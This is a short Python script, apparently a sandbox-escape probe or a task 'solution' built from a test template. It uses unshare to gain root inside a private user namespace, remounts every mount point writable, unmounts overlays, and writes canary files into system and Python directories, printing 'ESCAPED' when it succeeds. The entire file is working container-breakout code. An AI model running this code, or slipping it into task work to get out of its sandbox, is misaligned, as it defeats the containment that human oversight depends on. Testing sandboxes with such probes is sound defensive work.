# a user namespace of its own gives every capability: mounts, remounts the root writable, takes off what was mounted over
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, result):
    print(what, result, os.strerror(ctypes.get_errno()) if result else "done", flush=True)
    return result == 0
def solve(n):
    uid, gid = os.getuid(), os.getgid()
    if not attempt("unshare", libc.unshare(0x10000000 | 0x00020000)):
        return 0
    for path, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{path}", "w") as handle:
                handle.write(text)
        except OSError as error:
            print(path, error)
    if not attempt("private", libc.mount(None, b"/", None, 0x4000 | 0x40000, None)):
        return 0
    attempt("tmpfs", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("proc", libc.mount(b"proc", b"/proc", b"proc", 0, None))
    with open("/proc/self/mounts") as handle:
        points = [line.split()[1] for line in handle][::-1]
    for point in points:
        attempt("remount " + point, libc.mount(None, point.encode(), None, 32 | 4096, None))
    for place in (sys.prefix, os.path.dirname(os.__file__), "/", "/usr", "@CANARY@"):
        try:
            open(place + "/cohort-canary-remounted", "w").close()
            print("ESCAPED", place)
        except OSError:
            pass
    for point in points:
        if point != "/":
            attempt("umount " + point, libc.umount2(point.encode(), 2))
    try:
        open("@CANARY@/cohort-canary-uncovered", "w").close()
        print("ESCAPED canary")
    except OSError as error:
        print(error)
    return 1
